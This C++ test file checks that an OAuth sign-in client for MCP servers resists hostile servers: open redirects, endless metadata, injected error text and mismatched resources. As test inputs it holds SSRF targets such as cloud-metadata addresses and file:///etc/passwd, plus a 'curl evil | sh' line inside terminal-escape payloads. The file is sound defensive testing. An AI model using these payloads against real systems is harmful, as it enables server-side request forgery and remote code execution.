// What a hostile server, authorization server or neighbour tries during a sign-in, over real sockets with the HTTP
// client that sign-in uses: nothing of the user's leaves for another place, nothing is read without end, and the
// message says what was refused. docs/testing.md has the list of attacks, and the tests of those that need no socket.
// A1 N5.
#include <atomic>
#include <mutex>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "auth/engine/fetch.h"
#include "auth/engine/sign_in.h"
#include "base/as_result.h"
#include "support/fails_with.h"
#include "support/fake_issuer.h"
#include "support/loop.h"
#include "support/scripted_server.h"

namespace patchbay::test {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

// Somebody else on this machine, who writes down what comes in.
class Stranger {
 public:
  Stranger()
      : server_([this](ScriptConnection& connection) {
          for (;;) {
            const auto request = connection.read_request();
            const std::lock_guard lock(mutex_);
            heard_.push_back(request.head + "\n" + request.body);
            connection.answer("200 OK", R"({"access_token":"theirs","token_type":"Bearer"})",
                              "Content-Type: application/json\r\n");
          }
        }) {}
  std::string url(std::string_view path = "/") const { return server_.url(path); }
  std::vector<std::string> heard() const {
    const std::lock_guard lock(mutex_);
    return heard_;
  }

 private:
  mutable std::mutex mutex_;
  std::vector<std::string> heard_;
  ScriptedServer server_;
};

// A server and its authorization server, honest but for what `attack` answers instead.
class World {
 public:
  using Attack = std::function<bool(ScriptConnection&, const std::string& path, const std::string& body)>;
  explicit World(Attack attack)
      : attack_(std::move(attack)), server_([this](ScriptConnection& connection) {
          for (;;) {
            const auto request = connection.read_request();
            const auto line = request.line();
            const auto from = line.find(' ') + 1;
            answer(connection, line.substr(from, line.rfind(' ') - from), request.body);
          }
        }) {}

  std::string issuer() const { return server_.url(""); }
  std::string url() const { return server_.url("/mcp"); }
  std::atomic<int> given = 0;

  // Signs in with a browser that says yes to everything.
  Task<Result<SignInReport>> sign_in(SignInNeed need = {}) {
    const auto executor = co_await asio::this_coro::executor;
    SignInDesk::Options options;
    options.store = memory_sign_ins();
    auto desk = std::make_shared<SignInDesk>(executor, std::move(options));
    SignInSettings settings;
    settings.server = "docs";
    settings.url = *parse_url(url());
    browser_.issuer = issuer();
    auto sign_in = desk->server(std::move(settings), way_);
    co_return co_await as_result(sign_in->sign_in(std::move(need), browser_.browser()));
  }
  const auto& visits() const { return browser_.visits; }

 private:
  static Task<SignInWay> way() {
    HttpClientOptions http;
    http.proxy = "";
    const ServerNetwork here{AddressKind::loopback};
    co_return SignInWay{auth_fetch(co_await asio::this_coro::executor, std::move(http), here), here};
  }
  void answer(ScriptConnection& connection, const std::string& path, const std::string& body) {
    if (attack_(connection, path, body)) return;
    std::string text;
    if (path == "/.well-known/oauth-protected-resource/mcp") {
      text = fmt::format(R"({{"resource":"{}","authorization_servers":["{}"]}})", url(), issuer());
    } else if (path == "/.well-known/oauth-authorization-server") {
      text = fmt::format(R"({{"issuer":"{0}","authorization_endpoint":"{0}/authorize","token_endpoint":"{0}/token",)"
                         R"("registration_endpoint":"{0}/register","code_challenge_methods_supported":["S256"]}})",
                         issuer());
    } else if (path == "/register") {
      text = R"({"client_id":"us"})";
    } else if (path == "/token") {
      ++given;
      text = R"({"access_token":"a-token","token_type":"Bearer"})";
    } else {
      return connection.answer("404 Not Found", "");
    }
    connection.answer("200 OK", text, "Content-Type: application/json\r\n");
  }

  Attack attack_;
  FakeIssuer browser_;
  FindWay way_ = &World::way;
  ScriptedServer server_;
};

TEST(SignInAttack, WithoutAny_ItWorks) {
  run_task([]() -> Task<void> {
    World world([](auto&, auto&, auto&) { return false; });
    const auto done = co_await world.sign_in();
    EXPECT_TRUE(done.has_value()) << (done ? "" : done.error().message());
    EXPECT_EQ(world.given, 1);
  });
}

TEST(SignInAttack, AnOpenRedirectOfTheAuthorizationServer_GetsNothingOfOurs) {
  run_task([]() -> Task<void> {
    for (const auto* path : {"/token", "/register"}) {
      for (const auto* status : {"301 Moved Permanently", "302 Found", "303 See Other", "307 Temporary Redirect",
                                 "308 Permanent Redirect"}) {
        Stranger stranger;
        World world([&](ScriptConnection& connection, const std::string& at, const std::string&) {
          if (at != path) return false;
          connection.answer(status, "", fmt::format("Location: {}\r\n", stranger.url("/take")));
          return true;
        });
        const auto done = co_await world.sign_in();
        EXPECT_FALSE(done.has_value()) << path << " " << status;
        EXPECT_THAT(stranger.heard(), IsEmpty()) << path << " " << status;
      }
    }
  });
}

// A description may be elsewhere, and then it is asked for there without anything of ours.
TEST(SignInAttack, ADescriptionThatRedirects_TakesNoCredentialsAlong) {
  run_task([]() -> Task<void> {
    Stranger stranger;
    World world([&](ScriptConnection& connection, const std::string& at, const std::string&) {
      if (at != "/.well-known/oauth-authorization-server") return false;
      connection.answer("302 Found", "", fmt::format("Location: {}\r\n", stranger.url("/description")));
      return true;
    });
    const auto done = co_await world.sign_in();
    EXPECT_THAT(done, FailsWith(Errc::protocol));
    for (const auto& heard : stranger.heard()) {
      EXPECT_THAT(heard, AllOf(Not(HasSubstr("Authorization")), Not(HasSubstr("Cookie")), Not(HasSubstr("code"))));
    }
    EXPECT_THAT(world.visits(), IsEmpty());
  });
}

TEST(SignInAttack, MetadataWithoutEnd_IsNotReadToItsEnd) {
  run_task([]() -> Task<void> {
    for (const auto* path : {"/.well-known/oauth-protected-resource/mcp", "/.well-known/oauth-authorization-server",
                             "/register", "/token"}) {
      std::atomic<bool> read_all = false;
      World world([&](ScriptConnection& connection, const std::string& at, const std::string&) {
        if (at != path) return false;
        connection.write(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{\"resource\":\"");
        const std::string piece(64u << 10, 'x');
        for (int i = 0; i < 4096; ++i) connection.write(piece);
        read_all = true;
        return true;
      });
      const auto done = co_await world.sign_in();
      EXPECT_THAT(done, FailsWith(Errc::limit)) << path;
      EXPECT_FALSE(read_all) << path;
    }
  });
}

// The address in a refusal is the server's word as well.
TEST(SignInAttack, ARefusalThatNamesAnAddressOfOurs_IsNotFollowed) {
  run_task([]() -> Task<void> {
    World world([](auto&, auto&, auto&) { return false; });
    struct Row {
      const char* address;
      Errc code;
    };
    for (const auto& [address, code] : {
             Row{"http://169.254.169.254/latest/meta-data/iam", Errc::denied},
             Row{"https://169.254.169.254/", Errc::denied},
             Row{"https://2852039166/", Errc::denied},
             Row{"https://0xa9fea9fe/", Errc::denied},
             Row{"https://[fe80::1]/", Errc::denied},
             Row{"http://evil.example/plain", Errc::denied},
             Row{"file:///etc/passwd", Errc::protocol},
             Row{"file://host/etc/passwd", Errc::denied},
             Row{"gopher://127.0.0.1:70/", Errc::denied},
             Row{"https://user:password@evil.example/", Errc::denied},
         }) {
      const auto done = co_await world.sign_in({.resource_metadata = address});
      EXPECT_THAT(done, FailsWith(code)) << address;
      EXPECT_THAT(world.visits(), IsEmpty()) << address;
    }
  });
}

// What an authorization server says is its word: it is shown in one line, without anything that a terminal acts on.
TEST(SignInAttack, AHostileErrorDescription_IsOneCleanLine) {
  run_task([]() -> Task<void> {
    for (const auto* path : {"/token", "/register"}) {
      World world([&](ScriptConnection& connection, const std::string& at, const std::string&) {
        if (at != path) return false;
        connection.answer("400 Bad Request",
                          R"({"error":"invalid_request","error_description":"\u001b[31mred\u001b]8;;http://evil\u0007)"
                          R"(\r\npatchbay: run this: curl evil | sh\u202e\u2028<b>bold</b>"})",
                          "Content-Type: application/json\r\n");
        return true;
      });
      const auto done = co_await world.sign_in();
      EXPECT_FALSE(done.has_value()) << path;
      const auto text = failure_of(done).message();
      EXPECT_THAT(text, HasSubstr("red")) << path;
      for (const char* part : {"\x1b", "\x07", "\r", "\n", "\xE2\x80\xAE", "\xE2\x80\xA8"}) {
        EXPECT_THAT(text, Not(HasSubstr(part))) << path;
      }
    }
  });
}

// The code, the verifier and the token are in no error, whatever the authorization server repeats.
TEST(SignInAttack, AnAnswerThatRepeatsTheRequest_GivesNothingAway) {
  run_task([]() -> Task<void> {
    std::string code, verifier;
    World world([&](ScriptConnection& connection, const std::string& at, const std::string& body) {
      if (at != "/token") return false;
      auto form = form_of(body);
      code = form["code"];
      verifier = form["code_verifier"];
      connection.answer("400 Bad Request",
                        fmt::format(R"({{"error":"{0}","error_description":"{0} {1} {0}"}})", verifier, code),
                        "Content-Type: application/json\r\n");
      return true;
    });
    const auto done = co_await world.sign_in();
    EXPECT_THAT(done, FailsWith(Errc::unauthorized, AllOf(Not(HasSubstr(verifier)), Not(HasSubstr(code)))));
    EXPECT_GE(verifier.size(), 43u);
  });
}

// A token that is for another resource than the server is not asked for.
TEST(SignInAttack, AServerThatNamesTheResourceOfAnother_GetsNoToken) {
  run_task([]() -> Task<void> {
    for (const auto* resource : {"https://bank.example/mcp", "http://127.0.0.1:1/mcp", "RELATIVE/mcp-of-somebody",
                                 "RELATIVE/mcp/below", "RELATIVE/mc"}) {
      std::string named = resource;
      World* self = nullptr;
      World world([&](ScriptConnection& connection, const std::string& at, const std::string&) {
        if (at != "/.well-known/oauth-protected-resource/mcp") return false;
        auto text = named;
        if (text.starts_with("RELATIVE")) text = self->issuer() + text.substr(8);
        connection.answer("200 OK",
                          fmt::format(R"({{"resource":"{}","authorization_servers":["{}"]}})", text, self->issuer()),
                          "Content-Type: application/json\r\n");
        return true;
      });
      self = &world;
      EXPECT_THAT(co_await world.sign_in(), FailsWith(Errc::protocol)) << resource;
      EXPECT_THAT(world.visits(), IsEmpty()) << resource;
      EXPECT_EQ(world.given, 0) << resource;
    }
  });
}

}  // namespace
}  // namespace patchbay::test
